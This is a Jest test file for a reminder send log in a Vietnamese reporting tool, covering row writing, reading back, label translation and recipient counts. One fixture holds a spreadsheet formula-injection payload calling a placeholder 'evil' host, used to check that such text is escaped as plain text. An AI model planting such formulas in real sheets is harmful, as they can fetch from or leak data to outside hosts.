// The `Nhật ký` tab: rows written and read back.
import { logRow, readLog, recipientsLoggedOn, sendKey, type LogEntry } from '../../../src/core/reminders';
import { LOG_COLUMNS } from '../../../src/core/forms/schema';
import { fromLocal } from '../../../src/core/periods';

const entries: LogEntry[] = [
  {
    at: fromLocal(2024, 8, 9, 8, 12, 30),
    unit: 'H-622',
    form: '03',
    period: '07/2024',
    step: 'D-2',
    to: ['a@x.vn', 'b@x.vn'],
    result: 'sent',
    detail: '',
  },
  {
    at: fromLocal(2024, 8, 9, 8, 13),
    unit: 'H-623',
    form: '03',
    period: '07/2024',
    step: 'D-2',
    to: [],
    result: 'skipped',
    detail: '=IMPORTXML("http://evil","//a")',
  },
  {
    at: fromLocal(2024, 8, 13, 8, 1),
    unit: '',
    form: '',
    period: '07/2024',
    step: 'D+1',
    to: ['qt@stttt.example'],
    result: 'uncertain',
    detail: 'timeout',
  },
  {
    at: fromLocal(2024, 8, 13, 8, 2),
    unit: 'D-04',
    form: '04',
    period: '07/2024',
    step: 'D+1',
    to: ['d@x.vn'],
    result: 'failed',
    detail: 'Service invoked too many times',
  },
  {
    at: fromLocal(2024, 8, 13, 8, 3),
    unit: 'D-05',
    form: '04',
    period: '07/2024',
    step: 'D+1',
    to: ['e@x.vn'],
    result: 'deferred',
    detail: '',
  },
];

describe('the send log', () => {
  test('readLog(logRow(e)) round-trips every result, the digest included', () => {
    expect(readLog([[...LOG_COLUMNS], ...entries.map(logRow)])).toEqual(entries);
  });

  test('a row is written in LOG_COLUMNS order, with Vietnamese results and formula-like text kept as text', () => {
    expect(logRow(entries[1])).toEqual([
      entries[1].at,
      'H-623',
      '',
      '03',
      '07/2024',
      '2 ngày trước hạn',
      'Bỏ qua',
      `'=IMPORTXML("http://evil","//a")`,
    ]);
    expect(logRow(entries[0])[6]).toBe('Đã gửi');
    expect(logRow(entries[2])[5]).toBe('1 ngày sau hạn');
  });

  test('steps, results and details are written in Vietnamese and read back as their codes', () => {
    const skip: LogEntry = { ...entries[1], detail: 'reported' };
    const sent: LogEntry = { ...entries[0], step: 'D-7', detail: 'overdue' };
    expect(logRow(skip).slice(5)).toEqual(['2 ngày trước hạn', 'Bỏ qua', 'Đã báo cáo']);
    expect(logRow(sent).slice(5)).toEqual(['7 ngày trước hạn', 'Đã gửi', 'Email nhắc quá hạn']);
    expect(readLog([[...LOG_COLUMNS], logRow(skip), logRow(sent)])).toEqual([skip, sent]);
    // A daily job's failure keeps the job's name in `Bước`.
    const failure: LogEntry = { ...entries[0], unit: '', form: '', period: '', step: 'Kiểm tra toàn bộ', result: 'error', detail: 'x' };
    expect(logRow(failure)[5]).toBe('Kiểm tra toàn bộ');
  });

  test('the older D-7 entries of real logs still read, and still count as sent', () => {
    const old = [
      [...LOG_COLUMNS],
      [entries[0].at, 'H-622', 'a@x.vn', '03', '07/2024', 'D-7', 'Đã gửi', 'reminder'],
      [entries[0].at, 'H-623', 'b@x.vn', '03', '07/2024', '7 ngày trước hạn', 'Đã gửi', 'Email nhắc trước hạn'],
    ];
    const log = readLog(old);
    expect(log.map((e) => [e.step, e.detail])).toEqual([
      ['D-7', 'reminder'],
      ['D-7', 'reminder'],
    ]);
    expect(log.map(sendKey)).toEqual(['03|H-622|07/2024|D-7', '03|H-623|07/2024|D-7']);
  });

  test('reading is tolerant: columns found by header, sheet-converted form and period read, bad rows ignored', () => {
    const header = ['Kết quả', 'Thời điểm', 'Mã đơn vị', 'Địa chỉ', 'Biểu mẫu', 'Kỳ báo cáo', 'Bước', 'Chi tiết', 'Ghi chú thêm'];
    const julyAsDate = fromLocal(2024, 7, 1);
    const grid = [
      header,
      ['Đã gửi', entries[0].at, 'H-622', 'a@x.vn; b@x.vn', 3, julyAsDate, 'D-2', '', 'x'],
      ['Đã gửi', '09/08/2024 08:12:30', 'H-622', 'a@x.vn', '03', '07/2024', 'D-2', '', ''],
      ['Đã gửi', 'hôm qua', 'H-622', 'a@x.vn', '03', '07/2024', 'D-2', '', ''],
      ['Không biết', entries[0].at, 'H-622', 'a@x.vn', '03', '07/2024', 'D-2', '', ''],
      ['Đã gửi', entries[0].at, 'H-622', 'a@x.vn', 'BM7', '07/2024', 'D-2', '', ''],
      ['Đã gửi', entries[0].at, '', 'a@x.vn', '03', '07/2024', 'D-2', '', ''],
      [],
    ];
    const log = readLog(grid);
    expect(log).toHaveLength(2);
    expect(log[0]).toMatchObject({ unit: 'H-622', form: '03', period: '07/2024', step: 'D-2', to: ['a@x.vn', 'b@x.vn'], result: 'sent' });
    expect(log[1].at.getTime()).toBe(entries[0].at.getTime());
    expect(readLog([])).toEqual([]);
  });

  test('sendKey is stable', () => {
    expect(sendKey(entries[0])).toBe('03|H-622|07/2024|D-2');
    expect(sendKey(entries[2])).toBe('||07/2024|D+1');
  });

  test('recipients logged today count sent and uncertain sends only', () => {
    expect(recipientsLoggedOn(entries, '2024-08-09')).toBe(2);
    expect(recipientsLoggedOn(entries, '2024-08-13')).toBe(1);
  });
});
